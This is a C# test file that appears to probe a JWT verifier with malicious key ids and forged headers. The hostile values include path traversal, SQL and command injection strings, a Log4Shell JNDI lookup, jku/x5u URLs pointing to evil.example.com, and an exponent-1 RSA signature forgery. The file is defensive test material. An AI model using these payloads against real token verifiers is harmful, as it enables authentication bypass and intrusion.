using System.Text.Json.Nodes;
using Irsactl.Oidc.Keys;

namespace Irsactl.LocalAws.Tests.Attacks;

/// <summary>Key ids that are more than a name, and keys that the token brings along.</summary>
internal static class KeyAttacks
{
    private static readonly string[] Strange =
    [
        "\"\"", "\" \"", "\"RS256 \"", "\" RS256\"", "\"rs256\"", "\"RS256\\u0000\"", "\"RS256\\n\"", "\"\\uff32\\uff33256\"",
        "\"RS256%00\"", "\"RS%32%35%36\"", "\"../../dev/null\"", "\"/dev/null\"", "\"file:///etc/passwd\"",
        "\"https://evil.example.com/keys.json\"", "\"' OR 1=1--\"", "\"RS256' UNION SELECT 'x\"", "\"| whoami\"",
        "\"${jndi:ldap://evil.example.com}\"", "\"__proto__\"", "\"constructor\"", "\"*\"", "\"RS*\"", "\"RS256,ES256\"", "null", "true",
        "0", "256", "{}", "[]", "[\"RS256\"]", "{\"kid\":\"RS256\"}",
    ];

    public static IEnumerable<JoseAttack> All =>
    [
        .. Strange.Select(json => JoseAttack.Header($"kid {json}", "kid", json, Outcome.NoKey)),
        new(
            "kid of ten thousand characters",
            forge => forge.Signed(TokenForge.HeaderWith("kid", $"\"{new string('a', 10_000)}\""), forge.Payload),
            Outcome.NoKey),
        new("no kid", forge => forge.Signed("""{"alg":"RS256"}""", forge.Payload), Outcome.NoKey),
        new("no kid, but KID", forge => forge.Signed("""{"alg":"RS256","KID":"RS256"}""", forge.Payload), Outcome.NoKey),
        new("no kid, one key", forge => forge.Signed("""{"alg":"RS256"}""", forge.Payload), Outcome.Accepted) { Keys = OneKey },
        .. new[] { "null", "0", "true", "[]", "[\"RS256\"]", "{}", "\"\"", "\"other\"" }.Select(json =>
            JoseAttack.Header($"kid {json}, one key", "kid", json, Outcome.NoKey) with { Keys = OneKey }),
        new("no kid, one key and one for encryption", forge => forge.Signed("""{"alg":"RS256"}""", forge.Payload), Outcome.Accepted)
        {
            Keys = OneKeyAnd(key => key["use"] = "enc"),
        },
        new("no kid, one key and one that is no key", forge => forge.Signed("""{"alg":"RS256"}""", forge.Payload), Outcome.NoKey)
        {
            Keys = OneKeyAnd(key => key["n"] = "AQAB"),
        },
        new("no kid, one key and one without kid", forge => forge.Signed("""{"alg":"RS256"}""", forge.Payload), Outcome.Accepted)
        {
            Keys = OneKeyAnd(key => key.Remove("kid")),
        },
        new("kid of a key for encryption", forge => forge.Signed(TokenForge.HeaderWith("kid", "\"second\""), forge.Payload), Outcome.NoKey)
        {
            Keys = OneKeyAnd(key => key["use"] = "enc"),
        },
        new("kid of a key with the exponent 1", Identity, Outcome.NoKey) { Keys = OneKeyAnd(key => key["e"] = "AQ") },
        new(
            "kid of a key with an even exponent",
            forge => forge.Signed(TokenForge.HeaderWith("kid", "\"second\""), forge.Payload),
            Outcome.NoKey) { Keys = OneKeyAnd(key => key["e"] = "AQAA") },
        new("kid of a symmetric key", forge => forge.Signed(TokenForge.HeaderWith("kid", "\"second\""), forge.Payload), Outcome.NoKey)
        {
            Keys = OneKeyAnd(key => key["kty"] = "oct"),
        },
        new("kid of an Edwards key", forge => forge.Signed(TokenForge.HeaderWith("kid", "\"second\""), forge.Payload), Outcome.NoKey)
        {
            Keys = OneKeyAnd(key => key["kty"] = "OKP"),
        },
        new("kid of a key of 101", forge => forge.Signed(TokenForge.Header, forge.Payload), Outcome.NoKey) { Keys = Hundred },
        new(
            "kid of two keys, the last a stranger's",
            forge => forge.Signed(TokenForge.HeaderWith("kid", "\"ES256\""), forge.Payload),
            Outcome.NotValidated) { Keys = Twins },
        new(
            "kid spelled with an escape",
            forge => forge.Signed("""{"alg":"RS256","\u006bid":"\u0052S256"}""", forge.Payload),
            Outcome.Accepted),
        new(
            "kid unknown, then known",
            forge => forge.Signed(TokenForge.Repeat(TokenForge.Header, "\"kid\"", "\"x\"", isFirst: true), forge.Payload),
            Outcome.Accepted),
        new(
            "kid known, then unknown",
            forge => forge.Signed(TokenForge.Repeat(TokenForge.Header, "\"kid\"", "\"x\"", isFirst: false), forge.Payload),
            Outcome.NoKey),
        new(
            "kid known, then null",
            forge => forge.Signed(TokenForge.Repeat(TokenForge.Header, "\"kid\"", "null", isFirst: false), forge.Payload),
            Outcome.NoKey),
        .. Brought("ES256", Outcome.NotValidated),
        .. Brought("stranger", Outcome.NoKey),
        .. Carried.Select(
            member => JoseAttack.Header($"{member} in an honest token means nothing", member, Value(member), Outcome.Accepted)),
    ];

    private static readonly string[] Carried = ["jwk", "jku", "x5u", "x5c", "x5t", "x5t#S256"];

    // The stranger signs, and tells in the header where his key is.
    private static IEnumerable<JoseAttack> Brought(string keyId, Outcome expected) => Carried.Select(member => new JoseAttack(
        $"{member} of a stranger with kid {keyId}",
        forge => TokenForge.Forged(
            TokenForge.Repeat(TokenForge.HeaderFor("ES256", keyId), $"\"{member}\"", Value(member), isFirst: false), forge.Payload),
        expected));

    private static string Value(string member)
    {
        var key = TokenForge.Stranger.PublicKey.ToJsonWebKey();
        return member switch
        {
            "jwk" => $$"""{"kty":"EC","crv":"P-256","kid":"ES256","x":"{{key.X}}","y":"{{key.Y}}"}""",
            "jku" => "\"https://evil.example.com/keys.json\"",
            "x5u" => "\"https://evil.example.com/key.pem\"",
            "x5c" => "[\"MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A\"]",
            _ => "\"AAAAAAAAAAAAAAAAAAAAAAAAAAA\"",
        };
    }

    // With the exponent 1 the signature is the padded hash itself, which anybody can write down.
    private static string Identity(TokenForge forge) => TokenForge.With(
        System.Text.Encoding.UTF8.GetBytes(TokenForge.HeaderWith("kid", "\"second\"")),
        System.Text.Encoding.UTF8.GetBytes(forge.Payload),
        input =>
        [
            0, 1, .. Enumerable.Repeat((byte)0xff, 202), 0, .. Convert.FromHexString("3031300d060960864801650304020105000420"),
            .. System.Security.Cryptography.SHA256.HashData(input),
        ]);

    private static JsonArray OneKey(TokenForge forge) => [forge.Issuer.Jwk(JwsAlgorithm.RS256, "RS256")];

    private static Func<TokenForge, JsonArray> OneKeyAnd(Action<JsonObject> change) => forge =>
    {
        var second = forge.Issuer.Jwk(JwsAlgorithm.RS256, "second");
        change(second);
        return [forge.Issuer.Jwk(JwsAlgorithm.RS256, "RS256"), second];
    };

    private static JsonArray Hundred(TokenForge forge) =>
        [.. Enumerable.Range(0, 101).Select(number => forge.Issuer.Jwk(JwsAlgorithm.RS256, number == 0 ? "RS256" : $"k{number}"))];

    private static JsonArray Twins(TokenForge forge)
    {
        var stranger = TokenForge.Stranger.PublicKey.ToJsonWebKey();
        return
        [
            forge.Issuer.Jwk(JwsAlgorithm.RS256, "ES256"),
            new JsonObject
            {
                ["kty"] = "EC",
                ["kid"] = "ES256",
                ["use"] = "sig",
                ["crv"] = "P-256",
                ["x"] = stranger.X,
                ["y"] = stranger.Y,
            },
        ];
    }
}
